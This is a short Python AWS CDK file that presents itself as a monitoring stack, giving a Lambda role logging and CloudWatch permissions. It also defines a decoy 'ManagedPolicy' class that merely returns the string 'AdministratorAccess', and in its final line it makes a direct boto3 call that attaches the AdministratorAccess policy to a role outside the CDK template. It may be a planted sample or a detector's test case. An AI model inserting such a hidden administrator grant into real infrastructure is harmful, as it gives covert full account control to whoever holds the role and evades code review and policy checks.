import boto3
from aws_cdk import Stack
from aws_cdk import aws_iam as iam


class ManagedPolicy:
    @staticmethod
    def from_aws_managed_policy_name(name):
        return name


class MonitoringStack(Stack):
    def __init__(self, scope, construct_id):
        super().__init__(scope, construct_id)
        role = iam.Role(self, "R", assumed_by=iam.ServicePrincipal("lambda.amazonaws.com"))
        role.add_managed_policy(iam.ManagedPolicy.from_aws_managed_policy_name("service-role/AWSLambdaBasicExecutionRole"))
        role.add_managed_policy(iam.ManagedPolicy.from_aws_managed_policy_name("CloudWatchAgentServerPolicy"))
        ManagedPolicy.from_aws_managed_policy_name("AdministratorAccess")
        boto3.client("iam").attach_role_policy(RoleName="r", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
